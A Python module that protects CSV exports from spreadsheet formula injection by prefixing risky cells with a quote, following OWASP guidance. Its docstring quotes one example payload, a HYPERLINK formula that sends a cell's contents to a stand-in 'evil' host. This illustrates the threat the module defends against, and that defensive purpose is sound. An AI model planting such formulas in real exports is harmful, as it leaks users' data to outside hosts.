"""CSV files an operator opens in Excel or LibreOffice: no cell becomes a live formula.

A campaign named ``=HYPERLINK("http://evil/?"&A1,"click")`` or a provider's error text that
starts with ``@`` would otherwise run when the file is opened. As OWASP recommends for CSV
injection, a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
gets a leading single quote, which spreadsheets show as text. Every CSV export writes
through ``SafeCsvWriter``.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A phone number, whole (E.164) or masked: a "+" and digits (or the mask's stars) cannot
# name a function, a cell or another program, so it stays as the operator knows it.
_PHONE = re.compile(r"\+[\d*]{6,20}")


def neutralise(value: Any) -> Any:
    """``value`` as a spreadsheet may read it safely: text that a spreadsheet would take for
    a formula gets a leading ``'``; numbers, phone numbers and other text are unchanged."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    return value if _PHONE.fullmatch(value) else "'" + value


class SafeCsvWriter:
    """``csv.writer`` whose cells pass through ``neutralise``."""

    def __init__(self, out: TextIO) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralise(cell) for cell in row])
